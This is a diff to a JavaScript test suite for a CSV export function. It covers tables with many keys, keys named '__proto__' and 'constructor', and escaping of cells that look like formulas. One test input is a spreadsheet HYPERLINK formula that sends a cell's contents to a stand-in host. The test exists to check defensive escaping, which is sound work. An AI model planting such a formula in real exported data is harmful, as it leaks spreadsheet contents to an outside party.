@@ -17,10 +17,31 @@ test('items with different keys make one table', async () => {
   expect(await csvOf()).toBe('');
 });
 
-test('items with too many keys make none', async () => {
+test('items with more keys than columns are whole in the last one', async () => {
   const items = Array.from({ length: 101 }, (_, i) =>
     Object.fromEntries(Array.from({ length: 10 }, (_, j) => [`k${10 * i + j}`, 1])),
   );
-  await expect(csvOf(...items)).rejects.toThrow(/at most 1000 different keys: export them as jsonl/);
-  expect(await csvOf(...items.slice(1))).toContain('k1009\r\n');
+  const lines = (await csvOf(...items)).split('\r\n');
+  expect(lines[0]).toMatch(/^k0,.*,k999,item$/);
+  expect(lines[1]).toMatch(/^1,1.*,$/);
+  expect(lines[101]).toMatch(/^,+"{""k1000"":1,.*}"$/);
+  expect(await csvOf(...items.slice(1))).toMatch(/k1009\r\n/);
+});
+
+test('keys that every object inherits are keys like others', async () => {
+  const items = ['{"__proto__":"own"}', '{"constructor":1}', '{}'].map((line) => JSON.parse(line));
+  expect(await csvOf(...items)).toBe('__proto__,constructor\r\nown,\r\n,1\r\n,\r\n');
+});
+
+test('a text or a name that a spreadsheet would take for a formula has an apostrophe before it', async () => {
+  const item = { '=1+1': '=HYPERLINK("http://a.test/?"&A1)', price: -5, text: '-5', '-mixed': 1 };
+  expect(await csvOf(item, { '-mixed': 'one', price: -0.5 }, { '-mixed': -1e21, price: 1 })).toBe(
+    [
+      `'=1+1,price,text,'-mixed`,
+      `"'=HYPERLINK(""http://a.test/?""&A1)",-5,-5,1`,
+      ',-0.5,,one',
+      ',1,,-1e+21',
+      '',
+    ].join('\r\n'),
+  );
 });
